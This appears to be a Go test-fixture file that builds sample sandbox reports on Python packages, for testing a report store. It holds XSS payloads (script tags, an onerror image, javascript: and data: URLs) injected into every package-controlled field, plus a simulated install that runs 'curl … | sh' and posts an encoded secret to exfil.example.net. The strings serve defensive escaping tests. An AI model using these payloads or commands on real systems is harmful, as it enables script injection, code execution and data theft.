package storetest

import (
	"fmt"
	"math"
	"math/rand/v2"
	"time"

	"github.com/pyti/pyti/internal/buildinfo"
	"github.com/pyti/pyti/internal/report"
)

// Injections are hostile strings a package may put anywhere it controls.
var Injections = []string{
	`<script>window.__pwned=1</script>`,
	`"><img src=x onerror="window.__pwned=1">`,
	`javascript:window.__pwned=1`,
}

// Options shape a sample report.
type Options struct {
	// Seed varies the figures (tests, coverage, timings) deterministically.
	Seed uint64
	// Failing is how many tests fail.
	Failing int
	// Tests is how many test cases the report has (default 12).
	Tests int
	// Harmful adds a high-severity network finding with evidence and makes the verdict harmful.
	Harmful bool
	// Created is the report's time (default 2025-03-01 plus Seed minutes).
	Created time.Time
}

// SampleReport builds a realistic report of project==version: the whole task graph with timings,
// a wheel build, an install with behaviour, imports, a pytest run with coverage, lint figures,
// metadata with a packaging score, and raw-data artifacts.
func SampleReport(project, version string, o Options) *report.Report {
	rng := rand.New(rand.NewPCG(o.Seed, 0x5059_5449))
	if o.Tests == 0 {
		o.Tests = 12
	}
	o.Failing = min(o.Failing, o.Tests)
	created := o.Created
	if created.IsZero() {
		created = time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC).Add(time.Duration(o.Seed) * time.Minute)
	}
	start := created.Add(-90 * time.Second)
	tasks := []struct {
		name     string
		needs    []string
		provides []string
		ms       float64
	}{
		{"resolve", []string{"request"}, []string{"release"}, 120},
		{"fetch", []string{"release"}, []string{"archive", "wheelhouse"}, 2400},
		{"unpack", []string{"archive"}, []string{"tree"}, 80},
		{"inspect", []string{"tree"}, []string{"metadata"}, 40},
		{"build", []string{"tree", "wheelhouse"}, []string{"wheel"}, 6000},
		{"lint", []string{"tree"}, []string{"lint"}, 3500},
		{"install", []string{"wheel", "wheelhouse"}, []string{"env"}, 4200},
		{"import", []string{"env"}, []string{"imports"}, 700},
		{"test", []string{"env", "tree"}, []string{"tests"}, 9000},
		{"report", []string{"tests", "imports", "lint", "metadata"}, []string{"report"}, 15},
	}
	run := &report.RunRecord{Parallel: 2, Start: start, Initial: []string{"request"}}
	ends := map[string]time.Time{"request": start}
	var end time.Time
	for _, t := range tasks {
		s := start
		for _, n := range t.needs {
			if e, ok := ends[n]; ok && e.After(s) {
				s = e
			}
		}
		ms := t.ms * (0.7 + 0.6*rng.Float64())
		e := s.Add(time.Duration(ms * float64(time.Millisecond)))
		for _, p := range t.provides {
			ends[p] = e
		}
		if e.After(end) {
			end = e
		}
		run.Tasks = append(run.Tasks, report.TaskRecord{
			Name: t.name, Needs: t.needs, Provides: t.provides, TimeoutMS: 600000,
			Status: report.StatusOK, Start: s, End: e, WallMS: ms, CPUMS: ms * 0.8, PeakRSSBytes: int64(30+rng.IntN(200)) << 20,
		})
	}
	run.End, run.WallMS = end, float64(end.Sub(start))/float64(time.Millisecond)

	cases := make([]report.TestCase, 0, o.Tests)
	counts := report.TestCounts{}
	for i := range o.Tests {
		c := report.TestCase{NodeID: fmt.Sprintf("tests/test_core.py::test_case_%03d", i), Outcome: report.TestPassed, Duration: 0.01 + rng.Float64()/10}
		switch {
		case i < o.Failing:
			c.Outcome, c.Class = report.TestFailed, report.ClassAssertion
			c.Message = fmt.Sprintf("AssertionError: assert %d == %d", i, i+1)
			c.Details = fmt.Sprintf("    def test_case_%03d():\n>       assert compute(%d) == %d\nE       AssertionError: assert %d == %d\n\ntests/test_core.py:%d: AssertionError", i, i, i+1, i, i+1, 10+i)
			counts.Failed++
		case i == o.Tests-1 && o.Tests > 3:
			c.Outcome = report.TestSkipped
			c.Message = "needs a GPU"
			counts.Skipped++
		default:
			counts.Passed++
		}
		cases = append(cases, c)
	}
	classes := map[report.FailureClass]int(nil)
	if o.Failing > 0 {
		classes = map[report.FailureClass]int{report.ClassAssertion: o.Failing}
	}
	cov := 55 + 40*rng.Float64()
	branch := cov - 5
	pylintScore := 5 + 5*rng.Float64()
	lines := 800 + rng.IntN(3000)
	lint := &report.Lint{Phase: report.Phase{Outcome: "ok", WallMS: 3000}, Quality: report.Quality{
		Files: 12, Lines: lines,
		Pycodestyle: map[string]int{"E501": 10 + rng.IntN(50), "E302": rng.IntN(10), "W291": rng.IntN(5)},
		Pyflakes:    []report.LintMessage{{Path: "pkg/core.py", Line: 3, Message: "'os' imported but unused"}},
		Pylint: &report.Pylint{Score: &pylintScore, ByCategory: map[string]int{"convention": 12, "warning": 3},
			BySymbol: map[string]int{"missing-function-docstring": 12, "unused-import": 3}, Total: 15},
	}}
	finishLint(&lint.Quality)

	verdict, reason := report.VerdictPassed, "built, installed, imported; all 11 tests that ran passed"
	if o.Failing > 0 {
		verdict, reason = report.VerdictTestsFailed, fmt.Sprintf("%d of %d tests failed", o.Failing, o.Tests)
	}
	install := &report.Install{Phase: report.Phase{Outcome: "ok", WallMS: 4000, CPUMS: 3000, PeakMemory: 80 << 20,
		Command: []string{"/job/env/bin/python", "-m", "pip", "install", "--no-index", "--find-links", "/job/wheelhouse", project},
		Behavior: &report.Behavior{Events: 4000 + rng.IntN(1000), FilesRead: 900, FilesWritten: 120, Processes: 3,
			Executed: []string{"/job/env/bin/python -m pip install " + project}}},
		Packages: []report.Package{{Name: project, Version: version}, {Name: "six", Version: "1.16.0"}}}
	var findings []report.Finding
	if o.Harmful {
		verdict, reason = report.VerdictHarmful, "a high-severity finding: Network connection attempted"
		install.Behavior.NetworkAttempts = []string{"203.0.113.7:443"}
		install.Behavior.DNSQueries = []string{"exfil.example.net"}
		install.Behavior.Contacts = []report.Contact{{Transport: "tcp", Name: "exfil.example.net", Address: "198.18.0.2:80", Protocol: "http",
			Method: "POST", URL: "http://exfil.example.net/u", Data: "k=c2VjcmV0PXRva2Vu", Decoded: []string{"secret=token"}, Size: 120}}
		install.Behavior.Executed = append(install.Behavior.Executed, "/bin/sh -c curl http://203.0.113.7/x | sh")
		findings = append(findings, report.Finding{Source: "behavior", Phase: "install", RuleID: "network-attempt", Severity: report.SeverityHigh,
			Title: "Network connection attempted", Message: "pid 42 tried to reach 203.0.113.7:443 (connect); refused. The sandbox has no network.",
			Count: 3, Evidence: []report.Evidence{{Kind: "connect", Time: start.Add(10 * time.Second), PID: 42, Syscall: "connect", Detail: "AF_INET 203.0.113.7:443", Result: "-1 ENETUNREACH"}}})
	}
	findings = append(findings, report.Finding{Source: "static", Phase: "inspect", RuleID: "setup-py-exec", Severity: report.SeverityLow,
		Title: "setup.py runs code at build time", Message: "setup.py calls subprocess", Count: 1,
		Evidence: []report.Evidence{{Kind: "source", File: "setup.py", Line: 7, Detail: "subprocess.call(['git', 'describe'])"}}})

	wheel := fmt.Sprintf("%s-%s-py3-none-any.whl", project, version)
	sdist := fmt.Sprintf("%s-%s.tar.gz", project, version)
	score := 6 + rng.IntN(5)
	return &report.Report{
		Schema: report.Schema, ID: fmt.Sprintf("r-%s-%s-%d", project, version, o.Seed), CreatedAt: created,
		PYTI:    buildinfo.Info{Version: "dev", Go: "go1.26"},
		Request: report.Request{Spec: project + "==" + version, IndexURL: "https://pypi.org/simple/"},
		Project: project, Version: version, Verdict: verdict, Reason: reason,
		Environment: report.Environment{Python: "3.11.2", Sandbox: "bwrap", OS: "linux/amd64", Traced: true},
		Files: []report.File{
			{Filename: sdist, Kind: "sdist", SHA256: fmt.Sprintf("%064x", o.Seed+1), Size: 24000, URL: "https://files.example.org/" + sdist, Chosen: true},
			{Filename: wheel, Kind: "wheel", SHA256: fmt.Sprintf("%064x", o.Seed+2), Size: 18000, URL: "https://files.example.org/" + wheel},
		},
		Run: run,
		Metadata: &report.Metadata{MetadataVersion: "2.1", Name: project, Version: version, Summary: "A sample project for PYTI's store tests",
			Description: "# " + project + "\n\nDoes sample things.", License: "MIT", RequiresPython: ">=3.8",
			RequiresDist: []string{"six>=1.10"}, Author: "Sam Ple",
			ProjectURLs: map[string]string{"Homepage": "https://example.org/" + project, "Source": "https://git.example.org/" + project}},
		Problems: []report.Problem{
			{Field: "classifier", Severity: "warning", Message: "\"Topic :: Sample\" is not a known classifier"},
			{Field: "description", Severity: "error", Message: "the description does not render"},
		},
		Packaging: &report.Packaging{Score: score, Max: 10, Reasons: []report.Reason{
			{Check: "has-license", Passed: true, Weight: 2, Detail: "License: MIT"},
			{Check: "has-wheel", Passed: true, Weight: 2, Detail: "a wheel is published"},
			{Check: "requires-python", Passed: true, Weight: 1, Detail: ">=3.8"},
			{Check: "readme", Passed: score > 7, Weight: 2, Detail: "long description present"},
		}},
		Findings: findings,
		TargetResults: report.TargetResults{Fetch: &report.Fetch{Phase: report.Phase{Outcome: "ok", WallMS: 2000}, Wheelhouse: []report.File{{Filename: "six-1.16.0-py2.py3-none-any.whl", Kind: "wheel"}}, IndexRequests: 4},
			Build:   &report.Build{Phase: report.Phase{Outcome: "ok", WallMS: 5000, Behavior: &report.Behavior{Events: 12000, FilesRead: 3000, FilesWritten: 200, Processes: 5}}, Wheel: wheel},
			Install: install,
			Import:  &report.Import{Phase: report.Phase{Outcome: "ok", WallMS: 600}, Modules: []report.Module{{Name: project, OK: true}}},
			Tests: &report.Tests{Phase: report.Phase{Outcome: "ok", WallMS: 9000, Behavior: &report.Behavior{Events: 30000, FilesRead: 4000, FilesWritten: 30, Processes: 2}},
				Runner: "pytest", Found: "tests/ (pytest)",
				Results: &report.TestRun{Counts: counts, Complete: true, ExitStatus: map[bool]int{true: 1, false: 0}[o.Failing > 0], Cases: cases, Classes: classes},
				Coverage: &report.Coverage{LinePercent: cov + 2, BranchPercent: &branch, Percent: cov, Statements: lines, Covered: int(float64(lines) * cov / 100),
					Files: []report.FileCoverage{{Path: project + "/__init__.py", Percent: 100, Statements: 4}, {Path: project + "/core.py", Percent: cov, Statements: lines - 4, Missing: int(float64(lines) * (100 - cov) / 100)}}}}},
		Lint: lint,
		Artifacts: []report.Artifact{
			{Task: "build", Name: "build log", Path: "build/build.log", MediaType: "text/plain"},
			{Task: "test", Name: "pytest report", Path: "test/pytest.jsonl", MediaType: "application/x-ndjson"},
			{Task: "build", Name: "wheel", Path: "build/" + wheel, MediaType: "application/zip"},
		},
	}
}

// HostileReport is a report whose every package-controlled string carries a script injection:
// description, summary, project URLs, file names, test names and output, paths, finding evidence
// and artifact names.
func HostileReport(version string) *report.Report {
	const project = "evil-pkg"
	rep := SampleReport(project, version, Options{Seed: 666, Failing: 2, Harmful: true})
	inj := Injections
	rep.Metadata.Summary = "Summary " + inj[0]
	rep.Metadata.Description = "Description " + inj[0] + "\n" + inj[1] + "\n[click](" + inj[2] + ")"
	rep.Metadata.Author = inj[1]
	rep.Metadata.ProjectURLs = map[string]string{"Homepage": inj[2], "Docs " + inj[0]: "https://example.org/docs", "Evil": `data:text/html,<script>window.__pwned=1</script>`}
	rep.Files[0].Filename = "evil-pkg-" + version + inj[1] + ".tar.gz"
	rep.Files[0].URL = inj[2]
	rep.TargetResults.Tests.Results.Cases[0].NodeID = "tests/test_x.py::test_" + inj[0]
	rep.TargetResults.Tests.Results.Cases[0].Details = "output " + inj[0] + "\n" + inj[1]
	rep.TargetResults.Tests.Results.Cases[0].Message = "AssertionError " + inj[1]
	rep.TargetResults.Tests.Results.Cases[1].NodeID = "tests/" + inj[1] + ".py::test_two"
	rep.TargetResults.Tests.Coverage.Files[0].Path = "evil_pkg/" + inj[0] + ".py"
	rep.Lint.Pyflakes = append(rep.Lint.Pyflakes, report.LintMessage{Path: inj[1], Line: 1, Message: inj[0]})
	rep.Findings[0].Title = "Network connection attempted"
	rep.Findings[0].Evidence = append(rep.Findings[0].Evidence, report.Evidence{Kind: "file-write", PID: 43, Syscall: "openat", Detail: "/home/user/" + inj[0], File: inj[1]})
	rep.TargetResults.Install.Behavior.Executed = append(rep.TargetResults.Install.Behavior.Executed, "sh -c '"+inj[0]+"'")
	rep.TargetResults.Install.ErrorLines = []string{inj[1]}
	rep.Reason = "harmful: " + inj[0]
	rep.Artifacts = append(rep.Artifacts, report.Artifact{Task: "install", Name: "trace " + inj[0], Path: "install/" + "trace.txt", MediaType: "text/html"})
	return rep
}

// finishLint fills the totals and densities as the quality tools' figures have them.
func finishLint(q *report.Quality) {
	for _, n := range q.Pycodestyle {
		q.StyleTotal += n
	}
	q.FlakesTotal = len(q.Pyflakes)
	k := float64(q.Lines) / 1000
	round2 := func(v float64) float64 { return math.Round(v*100) / 100 }
	q.PerKLOC = report.PerKLOC{Pycodestyle: round2(float64(q.StyleTotal) / k), Pyflakes: round2(float64(q.FlakesTotal) / k)}
	if q.Pylint != nil {
		v := round2(float64(q.Pylint.Total) / k)
		q.PerKLOC.Pylint = &v
	}
}
